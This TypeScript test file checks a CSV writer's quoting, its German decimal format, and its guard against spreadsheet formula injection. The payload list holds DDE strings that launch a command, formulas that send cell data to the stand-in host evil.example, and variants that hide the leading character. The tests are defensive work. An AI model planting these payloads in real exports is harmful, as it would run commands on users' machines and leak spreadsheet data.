import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { count } from "../../test/counts.ts";
import { type CsvForm, csvRow, withoutGuard } from "./csv.ts";

test("a row reads back as what was written", () => {
  expect(csvRow(["Acme, Inc.", 'the "best"', "two\nlines", 12.5, -3, true, undefined, null, "日本"])).toBe(
    '"Acme, Inc.","the ""best""","two\nlines",12.5,-3,true,,,日本\r\n',
  );
});

test("for a German spreadsheet cells end with a semicolon and decimals begin with a comma; a number stays a number, a negative one too", () => {
  const german: CsvForm = { separator: ";", decimal: "," };
  expect(csvRow(["Müller; Söhne", 1188.59, -12.5, 0, -1000000, "1.5"], german)).toBe('"Müller; Söhne";1188,59;-12,5;0;-1000000;1.5\r\n');
  expect(csvRow([1188.59, -12.5, 0.000001])).toBe("1188.59,-12.5,0.000001\r\n");
});

test.each(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u0000=1", "＝1", '=HYPERLINK("http://evil")', "'=1", "''+1", "\tx"])(
  "%j is text in a spreadsheet",
  (text) => {
    expect(csvRow([text]).replace(/^"/, "")).toMatch(/^'/);
  },
);

test.each([
  "Acme",
  "3-2=1",
  "a@b.example",
  "12 May",
  "'quoted'",
  "Acme, Inc.",
  "12 Dock Rd\n97201 Portland",
  "a\n\nb",
  "Design - logo",
  "Jan–Feb, 2 days",
  "; –",
])("%j stays what it is", (text) => {
  expect(withoutQuotes(csvRow([text]))).toBe(text);
});

/** Texts known to run or fetch something (OWASP, CSV injection; PayloadsAllTheThings), and ways to hide their first character. */
const formulas = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "+1+cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u0000=1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  '"=1+1',
  '"""=1+1"',
  "'=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
];
const separators = [",", ";", "\t", "|", "\n", "\r\n"];
const hidden = (separator: string, formula: string) => [
  formula,
  `Acme${separator}${formula}`,
  `Acme"${separator}"${formula}`,
  `Acme${separator}${separator} ${formula}${separator}x`,
  `Acme""${separator}""${formula}""${separator}""`,
];

/**
 * Returns the cells that a reader with this separator may see: one reader respects quotes, the other cuts at every separator. Leading characters that
 * spreadsheets skip before a formula are removed.
 */
function cellsSeen(file: string, separator: string): string[] {
  const heeding = separator.length === 1 && !/[\r\n]/.test(separator) ? Papa.parse<string[]>(file, { delimiter: separator }).data.flat() : [];
  // biome-ignore lint/suspicious/noControlCharactersInRegex: some spreadsheets pass over them on the way to the formula
  return [...heeding, ...file.split(separator).flatMap((part) => part.split(/[\r\n]/))].map((cell) => cell.replace(/^[\s\u0000-\u001f"]+/, ""));
}

describe.each<CsvForm>([
  { separator: ",", decimal: "." },
  { separator: ";", decimal: "," },
])("of a file with %j", (form) => {
  test.each(formulas)("no reader's cell runs %j, whatever separates its cells", (formula) => {
    for (const inside of separators)
      for (const text of hidden(inside, formula)) {
        const file = csvRow(["Globex", text, -5, text, "end"], form);
        for (const separator of separators) {
          const running = cellsSeen(file, separator).filter((cell) => /^([=+@＝＋－＠]|-(?!5(\D|$)))/.test(cell));
          if (running.length) expect.fail(`${JSON.stringify([text, separator, file])} runs ${running}`);
        }
      }
  });
});

test("what keeps a spreadsheet from running a text comes off again, and nothing else does", () => {
  const part = fc.oneof(fc.constantFrom("'", "=", "+", "-", "@", " ", "\t", ",", ";", "|", "\r\n", '"', "＝"), fc.string({ unit: "grapheme", maxLength: 3 }));
  fc.assert(
    fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
      const text = parts.join("");
      expect(withoutGuard(withoutQuotes(csvRow([text])))).toBe(text);
    }),
    { numRuns: count(500, 10_000) },
  );
});

function withoutQuotes(row: string): string {
  const written = row.slice(0, -2);
  return written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
}
